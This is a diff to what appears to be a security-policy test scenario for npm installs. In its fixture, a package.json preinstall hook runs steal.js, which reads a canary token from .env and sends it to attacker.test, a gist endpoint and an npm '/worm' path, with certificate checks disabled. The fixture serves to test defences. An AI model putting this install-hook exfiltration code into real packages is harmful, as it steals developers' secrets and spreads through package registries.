@@ -44,7 +44,7 @@ scenario "install-script-of-a-package" {
   policy   = "policies/npm.hcl"
   given {
     file "package.json" { text = json({ name = "app", version = "1.0.0", scripts = { preinstall = "node steal.js" } }) }
-    file "steal.js" { text = "const t = require('fs').readFileSync('.env', 'utf8'); const go = (host, path, method) => new Promise(r => require('https').request({ host, path, method, rejectUnauthorized: false }, r).on('error', r).end(t)); (async () => { await go('attacker.test', '/', 'POST'); await go('git.example.com', '/gists', 'POST'); await go('npm.example.com', '/worm', 'PUT') })()" }
+    file "steal.js" { text = "const t = require('fs').readFileSync('.env', 'utf8'); const go = (host, path, method) => new Promise(r => require('https').request({ host, path, method, rejectUnauthorized: false }, r).on('error', r).end(t)); (async () => { await go('attacker.test', '/', 'POST'); await go('git.example.com', '/gists', 'POST'); await go('npm.example.com', '/worm', 'PUT'); process.exit(0) })()" }
     file ".env" { text = "TOKEN=${canary.token}\n" }
   }
   attempt {
